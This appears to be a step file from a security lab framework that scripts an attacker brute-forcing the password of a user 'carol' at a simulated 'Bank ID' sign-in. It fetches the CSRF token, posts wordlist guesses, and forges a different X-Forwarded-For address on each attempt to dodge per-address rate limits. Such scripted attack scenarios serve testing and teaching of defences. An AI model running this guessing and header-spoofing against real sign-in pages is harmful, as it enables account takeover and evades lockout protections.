"""A program tries one password after the other, each time from another address, or so it says."""

import re

from labs.stage import Stage, Stuck
from labs.steps import step

WORDS = ["password", "letmein", "carol123", "summer", "autumn", "winter", "garden", "rose", "tulip", "lily", "orchid"]
WORDS += ["daisy", "violet", "winter-garden"]  # it stands on the list by chance
TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')


@step("attacker")
def tries_one_password_after_the_other(stage: Stage) -> None:
    """Try a list of passwords for carol at Bank ID's sign-in, each with an `X-Forwarded-For` of its own."""
    for number, word in enumerate(WORDS, start=1):
        answer = guess(stage, word, f"203.0.113.{number}")
        if answer == 429:
            raise Stuck("Bank ID takes no more guesses from this address")
        if answer == 303:
            return


def guess(stage: Stage, password: str, address: str) -> int:
    """Type a name and a password; return the status."""
    page = stage.attacker.ask("GET", f"{stage.here.auth}/login")
    found = TOKEN.search(page.text)
    if not found:
        raise Stuck("this is not the sign-in page")
    form = {"csrf_token": found.group(1), "username": "carol", "password": password}
    headers = {"X-Forwarded-For": address}
    return stage.attacker.ask("POST", f"{stage.here.auth}/login", data=form, headers=headers).status_code
